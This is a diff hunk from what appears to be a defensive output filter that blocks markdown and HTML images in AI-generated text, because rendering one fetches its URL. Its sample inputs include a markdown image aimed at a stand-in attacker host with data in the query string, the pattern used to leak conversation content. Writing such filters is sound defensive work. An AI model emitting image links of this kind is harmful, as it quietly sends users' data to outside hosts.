@@ -98,7 +98,7 @@ LINKS: tuple[OutputRule, ...] = (
         "markdown_image",
         r"!\[[^\]\n]{0,500}\]\s*[(\[]|<\s*img\b|!\[[^\]\n]{0,500}\]$",
         "contains an image (never allowed: a rendered image fetches its URL)",
-        ("![status](http://attacker.example/?q=OOM_KILLED)", "see ![x][1]", '<img src="http://a.example/x.png">',
+        ("![status](http://attacker.example/?q=exit-137-evidence)", "see ![x][1]", '<img src="http://a.example/x.png">',
          "![](data:image/png;base64,AAAA)"),
         ("The pod failed! [OOMKilled] was the reason.", "Exit code 137 (OOMKilled).")),
     OutputRule(
